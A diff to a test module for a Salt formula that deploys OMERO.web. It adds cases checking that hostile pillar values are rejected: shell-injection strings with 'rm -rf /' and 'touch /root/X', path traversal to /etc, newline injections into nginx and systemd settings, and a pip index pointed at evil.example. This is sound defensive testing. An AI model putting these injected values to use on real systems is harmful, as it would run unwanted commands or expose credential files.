@@ -26,12 +26,33 @@ CASES = [
     ({"config": {"omero.db.name": "x"}}, "omero_web:config"),
     ({"apps": [{"name": "omero_figure"}]}, "omero_web:apps"),
     ({"gunicron": {"workers": 2}}, "omero_web:gunicron"),
+    # hostile or mistaken values that would reach a shell, a unit, nginx, or
+    # the system's own accounts, units and directories (issue 13)
+    ({"venv": "/opt/omero/web/v'; touch /root/X; echo '"}, "omero_web:venv"),
+    ({"ice": {"wheel": "/srv/wheels/x.whl' && touch /root/X #.whl"}}, "omero_web:ice:wheel"),
+    ({"omerodir": "/etc"}, "omero_web:omerodir"),
+    ({"venv": "/usr"}, "omero_web:venv"),
+    ({"omerodir": "/opt/omero/../../etc/omero"}, "omero_web:omerodir"),
+    ({"user": "root"}, "omero_web:user"),
+    ({"user": "www-data"}, "omero_web:user"),
+    ({"group": "redis"}, "omero_web:group"),
+    ({"service": {"name": "sshd"}}, "omero_web:service:name"),
+    ({"service": {"name": "foreign"}}, "omero_web:service:name"),
+    ({"nginx": {"tls": {"cert": "/c.crt", "key": "/c.key",
+                        "protocols": "TLSv1.2;\n include /etc/shadow"}}}, "omero_web:nginx:tls:protocols"),
+    ({"sessions": {"clear": {"on_calendar": "daily\nExecStartPre=/bin/touch /root/X"}}},
+     "omero_web:sessions:clear:on_calendar"),
+    ({"sessions": {"clear": {"on_calendar": "Mon 99:99"}}}, "omero_web:sessions:clear:on_calendar"),
+    ({"gunicorn": {"host": "127.0.0.1; rm -rf /"}}, "omero_web:gunicorn:host"),
+    ({"apps": [{"name": "omero_figure", "package": "--index-url=http://evil.example/"}]},
+     "omero_web:apps[0]:package"),
+    ({"config": {"omero.web.login_view": "x\nserver { }"}}, "omero_web:config:omero.web.login_view"),
 ]
 
 SNAPSHOT = (
-    "dpkg-query -W -f '${Package} ${Version}\\n'; getent passwd omero-web || true; "
-    "find /opt /etc/nginx /etc/systemd/system /srv/pillar -xdev -printf '%p %s %T@\\n' "
-    "2>/dev/null | grep -v '^/srv/pillar' | sort"
+    "dpkg-query -W -f '${Package} ${Version}\\n'; getent passwd; getent group; "
+    "find /opt /etc /usr/local /root /run/systemd/system /srv/pillar -xdev -printf '%p %s %T@\\n' "
+    "2>/dev/null | grep -v -e '^/srv/pillar' -e '^/etc/ld.so.cache' -e '^/root/.cache' | sort"
 )
 
 
@@ -39,6 +60,9 @@ SNAPSHOT = (
 def fresh(host):
     assert host.current is None, "this module must run on the fresh host, before any converge"
     host.salt_call("saltutil.sync_all", check=True)
+    # a unit the formula did not write, which a pillar must not take over
+    host.run(["bash", "-c", "printf '[Service]\\nExecStart=/bin/true\\n' "
+                            "> /etc/systemd/system/foreign.service"])
     return host
 
 
@@ -54,6 +78,7 @@ def test_bad_pillar_fails_early_and_changes_nothing(fresh, overrides, expected):
     assert res.returncode != 0, output[-2000:]
     assert expected in output, output[-3000:]
     assert before == after, "the host changed although the pillar was rejected"
+    assert fresh.run(["test", "-e", "/root/X"], check=False).returncode != 0
     # The secret from pillar.example must never be echoed in an error.
     assert "change-me-to-a-long-random-string" not in output
 
